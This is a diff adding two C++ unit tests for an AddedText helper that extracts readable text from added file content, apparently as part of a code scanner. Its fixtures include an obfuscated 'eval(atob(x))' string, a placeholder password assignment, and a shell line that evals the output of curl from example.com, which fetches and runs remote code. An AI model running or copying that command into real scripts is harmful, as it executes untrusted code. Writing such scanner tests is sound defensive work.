@@ -88,6 +88,24 @@ TEST(AddedText, OfAMergeOnlyWhatNoParentHas) {
   EXPECT_EQ(added.line_at(0), 4U);
 }
 
+TEST(AddedText, OfABinaryWhatCanBeRead) {
+  std::string file(400, '\x80');
+  file += "\nshort\x80\n\neval(atob(x))\n\x01password = 'x'\x01seven b\x01";
+  file += "8 bytes\n";
+  const auto added = AddedText::readable_part(AddedText::whole(file));
+  const auto text = added.text();
+  const std::string between("\0\n", 2);
+  EXPECT_EQ(text, "\n\neval(atob(x))\n" + between + "password = 'x'" + between + "8 bytes\n");
+  EXPECT_EQ(added.line_at(text.find("eval")), 4U);
+  EXPECT_EQ(added.line_at(text.find("password")), 5U);
+  EXPECT_EQ(added.insertions(), 5U);
+}
+
+TEST(AddedText, AScriptWithANulStaysWhole) {
+  const std::string_view script("#!/bin/sh\nev\0al \"$(curl -s https://example.com/x)\"\n", 53);
+  EXPECT_EQ(AddedText::readable_part(AddedText::whole(script)).text(), script);
+}
+
 TEST(AddedText, AFileOfTooManyLinesCountsAsAWhole) {
   std::uint64_t steps = 1'000'000;
   const std::string many(AddedText::lines_max + 1, '\n');
